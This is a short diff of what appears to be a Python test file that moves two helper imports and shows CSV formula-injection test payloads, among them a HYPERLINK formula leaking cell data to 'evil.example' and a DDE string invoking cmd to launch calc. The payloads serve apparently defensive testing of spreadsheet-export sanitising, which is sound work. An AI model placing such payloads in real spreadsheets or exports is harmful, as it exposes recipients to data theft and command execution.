@@ -16,8 +16,8 @@ from smplatform.enums import DeclarationState
 from smplatform.extensions import db
 from smplatform.models import PublicNotice, RegistryEntry
 from smplatform.rules.spreadsheet import csv_value, looks_like_formula
-from tests.province import helpers as province_helpers
-from tests.selection import helpers as selection_helpers
+from tests.support import province as province_helpers
+from tests.support import selection as selection_helpers
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")'
 PAYLOADS = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]
